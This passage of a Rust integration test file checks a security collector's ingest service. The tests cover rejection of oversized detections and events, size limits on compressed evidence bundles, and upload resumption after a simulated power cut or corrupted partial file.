    let d = stored[0].detection.as_ref().unwrap();
    let json: serde_json::Value = serde_json::from_str(&d.json).unwrap();
    assert_eq!(json, doc);
    assert_eq!(json["event"]["daddr"], "203.0.113.9");
    assert_eq!(json["evidence"]["capture"], "queued");
    assert!(d.event.is_none(), "stored in one form: the document");
    let detail = q
        .get_incident(GetIncidentRequest {
            id: stored[0].incident_id,
        })
        .await
        .unwrap()
        .into_inner();
    let ev = detail
        .events
        .iter()
        .find_map(|e| e.event.as_ref())
        .expect("the detected process's event");
    let ev_json: serde_json::Value = serde_json::from_str(&ev.json).unwrap();
    assert_eq!(ev_json, vigil_proto::document::event(&event).unwrap());
    // Neither a JSON line nor a structured payload: refused.
    let err = ingest
        .push_events(tokio_stream::iter(vec![EventBatch {
            batch_id: "e2".into(),
            events: vec![Event {
                time_unix_nanos: 1,
                kind: "exec".into(),
                ..Default::default()
            }],
        }]))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::InvalidArgument, "{err:?}");
    assert!(err.message().contains("structured"), "{err:?}");
}

/// A hostile agent (a real agent certificate) sends detections and events
/// far over what any agent sends: each is refused with INVALID_ARGUMENT
/// naming the field, nothing of the batch is stored, and the collector
/// keeps serving (issue 13: ~300k ATT&CK ids made the incident merge
/// quadratic, ~30k ancestors could overflow the tree walk's stack).
async fn oversized_items_are_refused_by_field(backend: Backend) {
    let pki = Pki::new();
    let data = tempfile::tempdir().unwrap();
    let mut c = Collector::start(backend, &pki, data.path(), &[]);
    let mut ingest = c.ingest(&pki, "agent-1").await;
    let good = Detection::from_agent_json(&detection_json(1, 200, "/bin/sh", "r", "high", "null"))
        .unwrap();
    let anc = |n: usize| {
        (0..n)
            .map(|i| vigil_proto::Ancestor {
                pid: i as u32 + 2,
                exe: "/bin/sh".into(),
                argv: vec!["sh".into()],
            })
            .collect::<Vec<_>>()
    };
    let cases: Vec<(&str, Detection)> = vec![
        (
            "mitre has 300000 entries",
            Detection {
                mitre: vec!["T1".into(); 300_000],
                ..good.clone()
            },
        ),
        (
            "ancestry has 30000 entries",
            Detection {
                ancestry: anc(30_000),
                ..good.clone()
            },
        ),
        (
            "argv has 5000 arguments",
            Detection {
                argv: vec!["a".into(); 5000],
                ..good.clone()
            },
        ),
        (
            "exe has 10000 bytes",
            Detection {
                exe: "x".repeat(10_000),
                ..good.clone()
            },
        ),
        (
            "ancestry argv has 200000 bytes",
            Detection {
                ancestry: vec![vigil_proto::Ancestor {
                    pid: 2,
                    exe: "/bin/sh".into(),
                    argv: vec!["y".repeat(200_000)],
                }],
                ..good.clone()
            },
        ),
    ];
    for (want, d) in cases {
        let err = ingest
            .push_detections(tokio_stream::iter(vec![DetectionBatch {
                batch_id: format!("bad-{want}"),
                detections: vec![good.clone(), d],
            }]))
            .await
            .unwrap_err();
        assert_eq!(err.code(), Code::InvalidArgument, "{want}: {err:?}");
        assert!(err.message().contains(want), "{want}: {}", err.message());
    }
    let mut ev = events(1, 0).remove(0);
    ev.argv = vec!["z".into(); 2000];
    let err = ingest
        .push_events(tokio_stream::iter(vec![EventBatch {
            batch_id: "bad-event".into(),
            events: vec![ev],
        }]))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::InvalidArgument, "{err:?}");
    assert!(err.message().contains("argv has 2000 arguments"), "{err:?}");
    // Nothing of a refused batch was stored; a good one still is.
    let mut q = c.query(&pki).await;
    let stored = q
        .list_detections(ListDetectionsRequest::default())
        .await
        .unwrap()
        .into_inner()
        .detections;
    assert!(stored.is_empty(), "{stored:#?}");
    ingest
        .push_detections(tokio_stream::iter(vec![DetectionBatch {
            batch_id: "good".into(),
            detections: vec![good],
        }]))
        .await
        .unwrap();
    assert_eq!(
        q.list_detections(ListDetectionsRequest::default())
            .await
            .unwrap()
            .into_inner()
            .detections
            .len(),
        1
    );
    assert!(c.is_running());
}

/// A bundle whose artifacts expand past `--max-bundle-expanded-bytes`
/// (here a 4 MiB core of zeros, a few KiB compressed, against a 1 MiB
/// limit): refused before its core is read, nothing kept; a bundle within
/// the limit goes through.
async fn bundles_expanding_past_the_limit_are_refused(backend: Backend) {
    let pki = Pki::new();
    let data = tempfile::tempdir().unwrap();
    let c = Collector::start(
        backend,
        &pki,
        data.path(),
        &["--max-bundle-expanded-bytes", "1048576"],
    );
    let mut ingest = c.ingest(&pki, "agent-1").await;
    // A zero-filled core of 4 MiB compresses to almost nothing.
    let bomb = common::zero_bundle(4 << 20);
    assert!(bomb.len() < 64 << 10, "{} bytes", bomb.len());
    let id = sha256_hex(&bomb);
    let err = ingest
        .upload_evidence(tokio_stream::iter(chunks(&id, &bomb, 0)))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::InvalidArgument, "{err:?}");
    assert!(err.message().contains("over the limit"), "{err:?}");
    assert!(files_under(&data.path().join("blobs")).is_empty());
    let small = common::zero_bundle(256 << 10);
    let id = sha256_hex(&small);
    let r = ingest
        .upload_evidence(tokio_stream::iter(chunks(&id, &small, 0)))
        .await
        .unwrap()
        .into_inner();
    assert!(r.complete);
}

/// A power cut while an upload is held: bytes the collector wrote after
/// its last fsync may be garbage on disk. A resume starts from what was
/// durably written (recorded after the fsync), never from the file's
/// length; and when the held prefix itself is corrupt, the final hash
/// mismatch is ABORTED (the agent retries from 0: the collector dropped
/// its copy), not DATA_LOSS (which makes the agent set a valid bundle
/// aside for good).
async fn a_power_cut_never_costs_a_valid_bundle(backend: Backend) {
    let pki = Pki::new();
    let data = tempfile::tempdir().unwrap();
    let mut c = Collector::start(backend, &pki, data.path(), &[]);
    let part = |id: &str| data.path().join("partial").join(format!("{id}.part"));

    // Torn tail: 512 KiB of garbage after the last fsync.
    let bytes = bundle(3 * CHUNK, 9);
    let id = sha256_hex(&bytes);
    let r = c
        .ingest(&pki, "agent-1")
        .await
        .upload_evidence(tokio_stream::iter(chunks(&id, &bytes, 0)[..1].to_vec()))
        .await
        .unwrap()
        .into_inner();
    assert_eq!((r.complete, r.received), (false, CHUNK as u64));
    c.kill();
    {
        use std::io::Write;
        let mut f = std::fs::OpenOptions::new()
            .append(true)
            .open(part(&id))
            .unwrap();
        f.write_all(&vec![0xaa; 512 << 10]).unwrap();
    }
    c = c.restart();
    let st = status(&c, &pki, &id).await;
    assert_eq!(st.received, CHUNK as u64, "resume only from durable bytes");
    let r = c
        .ingest(&pki, "agent-1")
        .await
        .upload_evidence(tokio_stream::iter(chunks(&id, &bytes, CHUNK)))
        .await
        .unwrap()
        .into_inner();
    assert!(r.complete);
    assert_eq!(fetch(&c, &pki, &id).await.unwrap(), bytes);

    // A corrupt byte inside the held prefix.
    let b2 = bundle(2 * CHUNK, 10);
    let id2 = sha256_hex(&b2);
    let r = c
        .ingest(&pki, "agent-1")
        .await
        .upload_evidence(tokio_stream::iter(chunks(&id2, &b2, 0)[..1].to_vec()))
        .await
        .unwrap()
        .into_inner();
    assert!(!r.complete);
    c.kill();
    {
        let mut held = std::fs::read(part(&id2)).unwrap();
        held[100] ^= 0xff;
        std::fs::write(part(&id2), held).unwrap();
    }
    c = c.restart();
    let st = status(&c, &pki, &id2).await;
    assert_eq!(st.received, CHUNK as u64);
    let err = c
        .ingest(&pki, "agent-1")
        .await
        .upload_evidence(tokio_stream::iter(chunks(&id2, &b2, CHUNK)))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::Aborted, "{err:?}");
    assert!(err.message().contains("from offset 0"), "{err:?}");
    assert_eq!(status(&c, &pki, &id2).await.received, 0);
    let r = c
        .ingest(&pki, "agent-1")
        .await
        .upload_evidence(tokio_stream::iter(chunks(&id2, &b2, 0)))
        .await
        .unwrap()
        .into_inner();
    assert!(r.complete);
    assert_eq!(fetch(&c, &pki, &id2).await.unwrap(), b2);
    // Nothing stored before was lost.
    assert_eq!(fetch(&c, &pki, &id).await.unwrap(), bytes);
}

on_both_stores!(
    bundles_that_do_not_match_their_manifest_are_refused,
    bundles_expanding_past_the_limit_are_refused,
    bundles_join_their_detection_and_chain,
    events_and_detections_are_stored_with_the_agent_identity_and_grouped,
    evidence_upload_in_chunks_fetches_back_identical,
    interrupted_uploads_resume,
    clients_without_a_valid_certificate_are_refused,
    hash_mismatch_is_data_loss_and_nothing_is_stored,
    limits_are_enforced_and_the_server_keeps_serving,
    malformed_protobuf_is_invalid_argument,
    malformed_ids_are_refused_without_touching_the_disk,
    structured_messages_are_stored_as_their_document,
    oversized_items_are_refused_by_field,
    sigkill_during_upload_then_resume_gives_a_correct_blob,
    data_survives_a_restart,
    a_power_cut_never_costs_a_valid_bundle,
);
